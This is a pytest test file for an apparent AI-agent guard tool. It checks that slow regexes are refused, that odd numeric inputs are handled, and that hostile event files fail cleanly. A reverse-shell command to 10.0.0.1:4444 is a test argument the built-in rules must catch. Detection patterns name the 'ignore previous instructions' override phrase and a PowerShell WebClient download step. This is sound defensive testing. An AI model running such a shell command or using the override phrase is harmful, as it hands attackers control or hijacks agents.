"""Hostile values and patterns: slow regexes refused at load, odd numbers read, nothing raises."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from agentguard.cli import main
from agentguard.events import ToolCall
from agentguard.policy import Policy, PolicyError
from agentguard.policy._regex import (
    MAX_SPLITS,
    RegexProblem,
    _trim,
    check_regex,
    compile_regex,
)
from tests.policy.conftest import ctx, make_policy, rule_ids

REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def call(**arguments: Any) -> ToolCall:
    return ToolCall(context=ctx(), tool="shell", arguments=arguments)


def regex_rule(pattern: str) -> str:
    return ("rules:\n  - id: P-1\n    description: ids\n    match: {kind: tool_call}\n"
            f"    when: {{field: arguments.q, regex: '{pattern}'}}\n")


# -- regular expressions whose quantifiers split the same text too many ways -----------------------

SLOW_PATTERNS = [
    r"(?:a{1,32}){1,32}b",
    r"(?:a{0,30}){30}b",
    r"(?:.{0,32}){0,32}z",
    r"(?:a?){25}a{25}",
    r"(?:a{2,32}){2,32}$",
    r"(?:a|aa){0,20}b",
    r"a{0,32}a{0,32}a{0,32}a{0,32}b",
    r"\s{0,32}\s{0,32}\s{0,32}$",
    r"\w+\w{0,2}x",
    r"(?:ab){0,32}(?:ab){0,32}c",
    r"(?:[a-x]{0,10}x[a-x]{0,10}y){8}z",
]


@pytest.mark.parametrize("pattern", SLOW_PATTERNS)
def test_counted_quantifiers_that_split_text_too_many_ways_are_refused(pattern: str) -> None:
    """A regex whose counted quantifiers can split one text in exponentially (or highly
    polynomially) many ways is refused at load, naming the rule, the field and why."""
    with pytest.raises(PolicyError) as info:
        Policy.from_yaml(regex_rule(pattern), name="p.yaml")
    issue = info.value.first
    assert (issue.file, issue.line, issue.field) == ("p.yaml", 5, "rules[0].when.regex")
    assert "in rule 'P-1'" in issue.message
    assert f"split the same text between them in more than {MAX_SPLITS} ways" in issue.message
    assert issue.hint and "possessive" in issue.hint


SEPARATED_PATTERNS = [
    r"(?:\d{1,3}\.){3}\d{1,3}",
    r"\b(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?\b",
    r"\d{1,3}(?:,\d{3})*",
    r"(?:ab|a){1,20}c",
    r"(?:a|bc){0,10}d",
    r"(?:foo|bar)+",
    r"[A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9.-]{1,255}\.[A-Za-z]{2,24}",
    r"(?i)ignore\s{1,5}(?:all\s{1,5})?(?:previous|prior)\s{1,5}instructions",
    r"\s{0,10}\(?\s{0,10}\(?new-object\s{1,10}net\.webclient",
    r"a{0,10}a{0,10}b",
    r"\b\d{4}[ -]?\d{4}[ -]?\d{4}[ -]?\d{4}\b",
]


@pytest.mark.parametrize("pattern", SEPARATED_PATTERNS)
def test_counted_quantifiers_kept_apart_or_within_the_budget_are_accepted(pattern: str) -> None:
    """Counted repetitions a separator keeps from trading characters (IP addresses, thousands
    groups, e-mail domains) or that split text in at most MAX_SPLITS ways load fine."""
    check_regex(pattern)
    Policy.from_yaml(regex_rule(pattern.replace("'", "''")))


@pytest.mark.parametrize(("pattern", "text"), [
    (r"(?:a?){7}b", "a"),
    (r"a{0,10}a{0,10}b", "a"),
    (r"\s{0,10}\(?\s{0,10}x", " "),
    (r"(?:\d{1,3}\.){3}\d{1,3}x", "1."),
])
def test_accepted_counted_patterns_stay_fast_on_a_10kb_hostile_argument(pattern: str,
                                                                        text: str) -> None:
    """The costliest accepted shapes evaluate a 10 KB argument built against them, as one value
    and as several, in well under a second (rejected shapes take minutes to hours), and the
    built-in rules still fire on the same event."""
    policy = Policy.from_yaml(
        "rules:\n  - {id: P-1, description: d, match: {kind: tool_call}, "
        f"when: {{field: arguments.q, regex: '{pattern}'}}}}\n", builtin_rules=True)
    hostile = (text * 10240)[:10240]
    for arguments in ({"q": hostile, "cmd": REVERSE_SHELL},
                      {"q": [hostile[:2048]] * 5, "cmd": REVERSE_SHELL}):
        start = time.perf_counter()
        fired = rule_ids(policy.evaluate(call(**arguments)))
        assert time.perf_counter() - start < 0.5
        assert "AG003" in fired and "P-1" not in fired


# -- numbers: huge integers, padded and separated numeric strings, non-finite bounds --------------

NUMBERS = """
rules:
  - id: BIG-1
    description: large query
    message: 'query asked for {arguments.limit} rows'
    match: {kind: tool_call}
    when: {field: arguments.limit, gt: 1000}
  - id: PAGE-1
    description: page size that needs review
    match: {kind: tool_call}
    when: {field: arguments.limit, gte: 100, lte: 10000}
  - id: NEG-1
    description: negative limit
    match: {kind: tool_call}
    when: {field: arguments.limit, lt: 0}
"""


@pytest.mark.parametrize(("limit", "expected"), [
    (10**400, ["BIG-1"]),
    (10**5000, ["BIG-1"]),
    (-(10**400), ["NEG-1"]),
    (5000, ["BIG-1", "PAGE-1"]),
], ids=["401-digits", "5001-digits", "minus-401-digits", "5000"])
def test_huge_integer_arguments_compare_right_and_lose_no_rule(limit: int,
                                                               expected: list[str]) -> None:
    """An integer beyond every float (or past Python's int-to-text limit) is compared as ±inf:
    the bounds it exceeds fire, two-sided ranges do not, and the built-in rules on the other
    argument still fire instead of the whole evaluation failing."""
    policy = make_policy(NUMBERS, builtin_rules=True)
    decisions = policy.evaluate(call(cmd=REVERSE_SHELL, limit=limit)) or []
    assert sorted(d.rule_id for d in decisions if d.rule_id != "AG003") == expected
    assert "AG003" in rule_ids(decisions)


def test_a_huge_integer_is_shown_in_scientific_notation() -> None:
    """A rule message and the evidence show a 5001-digit integer as ≈1.000e+5000, not as 5001
    digits (which Python cannot even write out)."""
    policy = make_policy(NUMBERS)
    decision = next(d for d in policy.evaluate(call(limit=10**5000)) or [] if d.rule_id == "BIG-1")
    assert decision.reason == "query asked for ≈1.000e+5000 rows"
    assert decision.evidence["matched"][0]["value"] == "≈1.000e+5000"
    json.dumps(decision.evidence)


@pytest.mark.parametrize("limit", [
    "0" * 61 + "5000",
    "5_000",
    " +5000\n",
    "5e3",
    "5000." + "0" * 300,
    "0" * 100_000 + "5000",
    "1" + "0" * 5000,
    "1" + "0" * 400 + "e-396",
    "Infinity",
], ids=["zero-padded", "separator", "spaces-and-sign", "exponent", "long-fraction",
        "100k-zeros", "5001-digits", "long-mantissa-exponent", "infinity"])
def test_numeric_strings_are_read_as_int_and_float_read_them(limit: str) -> None:
    """A numeric string a tool's int() or float() reads as more than 1000 (zero padding of any
    length, '_' separators, exponents, many digits) fires gt: 1000."""
    assert rule_ids(make_policy(NUMBERS).evaluate(call(limit=limit)))[:1] == ["BIG-1"]


@pytest.mark.parametrize("limit", ["nan", "5__000", "_5000", "0x1388", "5000abc", "1" * 300 + "x",
                                   "1" * ((1 << 20) + 1)],
                         ids=["nan", "double-separator", "leading-separator", "hex", "suffix",
                              "long-suffix", "past-1MiB"])
def test_text_that_is_not_a_number_never_matches_a_bound(limit: str) -> None:
    """Text float() refuses (or 'nan', or text past the 1 MiB read limit) matches no bound."""
    assert make_policy(NUMBERS).evaluate(call(limit=limit)) is None


@pytest.mark.parametrize("condition", [
    "{field: arguments.limit, gt: .nan}",
    "{field: arguments.limit, lte: .inf}",
    "{field: arguments.limit, gte: -.inf}",
    "{field: arguments.q, length: {lt: .nan}}",
    "{field: result, count: {gt: .inf}}",
    "{field: arguments.limit, lt: 1" + "0" * 400 + "}",
])
def test_non_finite_numeric_bounds_are_refused_at_load(condition: str) -> None:
    """A NaN, infinite or float-overflowing bound (which would never, or always, hold) is refused
    with its location instead of loading a rule that silently never fires."""
    with pytest.raises(PolicyError) as info:
        Policy.from_yaml(f"rules:\n  - id: N-1\n    description: d\n    when: {condition}\n",
                         name="p.yaml")
    issue = info.value.first
    assert (issue.file, issue.line) == ("p.yaml", 4)
    assert issue.field.startswith("rules[0].when.")
    assert issue.message.startswith("must be a finite number; got ")


@pytest.mark.parametrize("condition", ["{field: arguments.mode, equals: .nan}",
                                       "{field: arguments.mode, not_in: [1, .nan]}"])
def test_nan_values_to_compare_with_are_refused_at_load(condition: str) -> None:
    """A NaN to compare values with (it equals nothing) is refused with its location."""
    with pytest.raises(PolicyError) as info:
        Policy.from_yaml(f"rules:\n  - id: N-1\n    description: d\n    when: {condition}\n",
                         name="p.yaml")
    assert "cannot be NaN" in info.value.first.message
    assert info.value.first.line == 4


def test_a_huge_integer_to_compare_with_is_compared_exactly() -> None:
    """equals with a 401-digit integer loads and matches that integer and its text form."""
    big = 10**400
    policy = Policy.from_yaml("rules:\n  - {id: E-1, description: d, when: "
                              f"{{field: arguments.limit, equals: {big}}}}}\n")
    assert rule_ids(policy.evaluate(call(limit=big))) == ["E-1"]
    assert rule_ids(policy.evaluate(call(limit=str(big)))) == ["E-1"]
    assert policy.evaluate(call(limit=big + 1)) is None


# -- agentguard policy explain on hostile event files ---------------------------------------------

@pytest.mark.parametrize("text", ["[" * 100_000 + "]" * 100_000,
                                  '{"kind": "tool_call"}\n' + "[" * 100_000 + "]" * 100_000],
                         ids=["document", "json-lines"])
def test_explain_reports_an_event_file_nested_too_deeply(tmp_path: Path, capsys: Any,
                                                         text: str) -> None:
    """explain on a deeply nested event file (one document or JSON lines) prints the usual
    one-line 'agentguard policy explain: FILE: ...' error and exits 1, with no traceback."""
    events = tmp_path / "deep.json"
    events.write_text(text)
    assert main(["policy", "explain", "--event", str(events)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"agentguard policy explain: {events}: ")
    assert "nests too deeply" in err and "Traceback" not in err
    assert err.count("\n") == 1


# -- a leading class run: the same matches without re-scanning the run from each of its places ----

_CLASSES = [r"\w", r"\d", r"\s", r"\W", r"[a-c]", r"[^b ]", "."]
_REST = ["", r"\s+\w+", "x", r"[0-9]+", "b+c", r"\w*@", "(?:ab)+", "$", r"\b", "y|z"]


@settings(max_examples=400, deadline=None)
@given(cls=st.sampled_from(_CLASSES), quantifier=st.sampled_from(["+", "*", "+?", "{2,}", "{1,3}"]),
       rest=st.sampled_from(_REST), ignore_case=st.booleans(),
       text=st.text(alphabet="abcxyz 0@\n_B", max_size=40))
def test_a_pattern_led_by_a_class_run_finds_what_it_found_before(
        cls: str, quantifier: str, rest: str, ignore_case: bool, text: str) -> None:
    """A pattern that starts with a repeated character class is searched from the start of each
    run of that class only, and finds exactly the match (place and text) the plain pattern
    finds."""
    pattern = cls + quantifier + rest
    try:
        compiled = compile_regex(pattern, ignore_case)
    except RegexProblem:
        assume(False)  # refused at load for its own reasons: nothing is searched with it
    flags = re.IGNORECASE if ignore_case else 0
    # Loading drops a leading or trailing ".*" (a rule asks whether there is a match, and where
    # the plain pattern's match is, the loaded one's is too); the anchor changes neither.
    plain, trimmed = re.compile(pattern, flags), re.compile(_trim(pattern), flags)
    found = compiled.search(text)
    assert (found is None) == (plain.search(text) is None)
    expected = trimmed.search(text)
    assert (found and found.span()) == (expected and expected.span())


def test_a_pattern_led_by_a_class_run_is_checked_in_linear_time() -> None:
    """Rules with patterns such as ``\\w+\\s+\\w+`` match a long run of letters without the
    quadratic re-scan (the pattern only starts where a run starts), and still fire."""
    policy = make_policy(regex_rule(r"\w+\s+\w+"))
    assert rule_ids(policy.evaluate(call(q="a" * 4000 + " b"))) == ["P-1"]
    assert compile_regex(r"\w+\s+\w+").pattern.startswith(r"(?<!\w)")
    assert compile_regex(r"\w+x|y").pattern == r"\w+x|y"  # alternation at the top: left alone
